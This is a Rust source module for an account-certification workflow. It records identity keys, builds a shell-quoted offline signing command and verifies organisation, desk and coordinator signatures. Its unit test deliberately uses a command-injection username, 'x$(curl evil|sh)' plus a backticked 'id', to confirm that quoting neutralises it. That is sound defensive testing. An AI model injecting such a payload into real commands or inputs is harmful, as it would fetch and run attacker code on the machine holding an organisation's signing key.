//! How an account comes to be certified: its identity key recorded at login, the exact command
//! the organisation's offline key runs for it, that key's signature (or, for an operator, the
//! desk organisation's countersignature) accepted once it verifies, and a certified coordinator
//! certifying a member in person.

use crate::crypto::identity::{fingerprint_matches, identity_of};
use crate::crypto::signing::{Signature, Statement, VerifyingKey};
use crate::store::{now, IdentityRow, Store, StoreError, DESK_SIGNER, ORGANISATION_SIGNER};
use crate::trust::accounts::{Principal, Role};
use crate::trust::audit::Audit;
use crate::trust::WorkspaceError;

use super::chain::{bound_identity, member_statement, Chain};
use super::standing::OPERATORS;

/// Records the logged-in person's identity key and its binding of their encryption key, made
/// from the private key their session holds. Accounts made before identity keys get theirs at
/// their next login.
pub async fn record_identity(
    store: &Store,
    account: &str,
    private: &crate::crypto::PrivateKey,
) -> Result<(), StoreError> {
    let identity = identity_of(private);
    let binding = identity.sign(&Statement::AccountKey {
        account,
        key: &private.public_key(),
    });
    store
        .set_identity(
            account,
            &identity.verifying_key().to_bytes(),
            &binding.to_bytes(),
        )
        .await
}

/// What the organisation's offline key (`homeward org certify`) must sign for an account, and
/// the account's identity key in text, so the page can print the exact command.
pub struct CertificateRequest {
    pub organisation: String,
    pub account: String,
    pub username: String,
    pub role: String,
    pub identity: String,
}

impl CertificateRequest {
    /// The `homeward org certify` line to run on the organisation's (or, for an operator, the
    /// desk organisation's) offline machine. Every value is shell-quoted: a username or an id
    /// edited in the database must not run code where the organisation's signing key lives.
    /// `None` if a value cannot be quoted at all (it holds a NUL).
    pub fn command(&self, operator: bool) -> Option<String> {
        let words: Vec<&str> = if operator {
            vec![
                "homeward",
                "org",
                "certify",
                "--operator",
                "--signing-key",
                "DESK-ORGANISATION.key",
                "--account",
                &self.account,
                "--username",
                &self.username,
                "--identity",
                &self.identity,
            ]
        } else {
            vec![
                "homeward",
                "org",
                "certify",
                "--signing-key",
                "ORGANISATION.key",
                "--organisation",
                &self.organisation,
                "--account",
                &self.account,
                "--username",
                &self.username,
                "--role",
                &self.role,
                "--identity",
                &self.identity,
            ]
        };
        shlex::try_join(words).ok()
    }
}

pub async fn certificate_request(
    store: &Store,
    who: &Principal,
) -> Result<Option<CertificateRequest>, StoreError> {
    let Some(row) = store.identity(&who.account_id).await? else {
        return Ok(None);
    };
    let organisation = match (&row.organisation_id, who.role) {
        (Some(org), _) => org.clone(),
        (None, Role::Operator) => OPERATORS.to_owned(),
        (None, _) => return Ok(None),
    };
    // The session's own key, not the database's row: a row swapped there must not be what the
    // organisation is asked to sign.
    let identity = identity_of(&who.private_key).verifying_key();
    Ok(Some(CertificateRequest {
        organisation,
        account: row.account_id,
        username: row.username,
        role: row.role,
        identity: identity.to_text(),
    }))
}

/// Stores the organisation's offline signature over the person's own membership, once it
/// verifies against the organisation's registered signing key. An operator's goes to
/// `accept_operator_countersignature`.
pub async fn accept_organisation_certificate(
    chain: Chain<'_>,
    audit: &Audit,
    who: &Principal,
    signature: &str,
) -> Result<(), WorkspaceError> {
    let signature = Signature::parse(signature).map_err(|_| WorkspaceError::BadSignature)?;
    let row = chain
        .store
        .identity(&who.account_id)
        .await?
        .ok_or(WorkspaceError::NotFound)?;
    let (identity, _) = bound_identity(&row).map_err(WorkspaceError::Uncertified)?;
    if who.role == Role::Operator {
        return accept_operator_countersignature(chain, audit, who, &row, &identity, &signature)
            .await;
    }
    let org_id = who
        .organisation_id
        .as_deref()
        .ok_or(WorkspaceError::Forbidden)?;
    let org_key = chain
        .organisation_key(org_id)
        .await?
        .ok_or(WorkspaceError::NotFound)?
        .map_err(WorkspaceError::Uncertified)?;
    if !org_key.verifies(&member_statement(&row, org_id, &identity), &signature) {
        return Err(WorkspaceError::BadSignature);
    }
    let entry = audit.entry(
        &who.account_id,
        "member_certified",
        format!("account:{} by:organisation", who.account_id),
    );
    chain
        .store
        .insert_certificate(
            &who.account_id,
            ORGANISATION_SIGNER,
            &signature.to_bytes(),
            now(),
            &entry,
        )
        .await?;
    tracing::info!("account certified by its organisation's key");
    Ok(())
}

/// Stores the desk organisation's offline countersignature over an operator's own standing
/// (`row`, whose identity key is `identity`), once it verifies against the desk key this server
/// pins; with no pinned desk key, none does.
async fn accept_operator_countersignature(
    chain: Chain<'_>,
    audit: &Audit,
    who: &Principal,
    row: &IdentityRow,
    identity: &VerifyingKey,
    signature: &Signature,
) -> Result<(), WorkspaceError> {
    let desk_key = chain.desk_key.ok_or(WorkspaceError::BadSignature)?;
    if !desk_key.verifies(&member_statement(row, OPERATORS, identity), signature) {
        return Err(WorkspaceError::BadSignature);
    }
    let entry = audit.entry(
        &who.account_id,
        "operator_countersigned",
        format!("account:{}", who.account_id),
    );
    chain
        .store
        .insert_certificate(
            &who.account_id,
            DESK_SIGNER,
            &signature.to_bytes(),
            now(),
            &entry,
        )
        .await?;
    Ok(())
}

/// A certified coordinator certifies a member of their organisation with their identity key,
/// once the fingerprint the member read out to them (`fingerprint`) matches the identity the
/// server holds. A member already certified keeps the certificate they have.
pub async fn certify_member(
    chain: Chain<'_>,
    audit: &Audit,
    who: &Principal,
    account: &str,
    fingerprint: &str,
) -> Result<(), WorkspaceError> {
    let me = chain.coordinator(who).await?;
    if account == who.account_id {
        return Err(WorkspaceError::Forbidden);
    }
    let row = chain
        .store
        .identity(account)
        .await?
        .filter(|r| r.organisation_id.as_deref() == Some(me.organisation_id.as_str()))
        .ok_or(WorkspaceError::NotFound)?;
    let (identity, _) = bound_identity(&row).map_err(WorkspaceError::Uncertified)?;
    if !fingerprint_matches(fingerprint, &identity) {
        return Err(WorkspaceError::WrongFingerprint);
    }
    if chain.check(account).await?.is_ok() {
        return Ok(());
    }
    let signature =
        identity_of(&who.private_key).sign(&member_statement(&row, &me.organisation_id, &identity));
    let entry = audit.entry(
        &who.account_id,
        "member_certified",
        format!(
            "account:{account} by:{} identity:{}",
            who.account_id,
            crate::crypto::identity::fingerprint(&identity)
        ),
    );
    chain
        .store
        .insert_certificate(
            account,
            &who.account_id,
            &signature.to_bytes(),
            now(),
            &entry,
        )
        .await?;
    tracing::info!("member certified by a coordinator");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::CertificateRequest;

    #[test]
    fn the_printed_command_runs_nothing_an_edited_username_holds() {
        let request = CertificateRequest {
            organisation: "partner".into(),
            account: "a1".into(),
            username: "x$(curl evil|sh);`id`'\"".into(),
            role: "coordinator".into(),
            identity: "hwiv1.abc".into(),
        };
        for operator in [false, true] {
            let command = request.command(operator).unwrap_or_default();
            let words = shlex::split(&command).unwrap_or_default();
            let at = words.iter().position(|w| w == "--username");
            assert_eq!(
                at.and_then(|i| words.get(i + 1)).map(String::as_str),
                Some(request.username.as_str()),
                "{command}"
            );
            assert_eq!(words.first().map(String::as_str), Some("homeward"));
        }
        let nul = CertificateRequest {
            username: "a\0b".into(),
            ..request
        };
        assert_eq!(nul.command(false), None);
    }
}
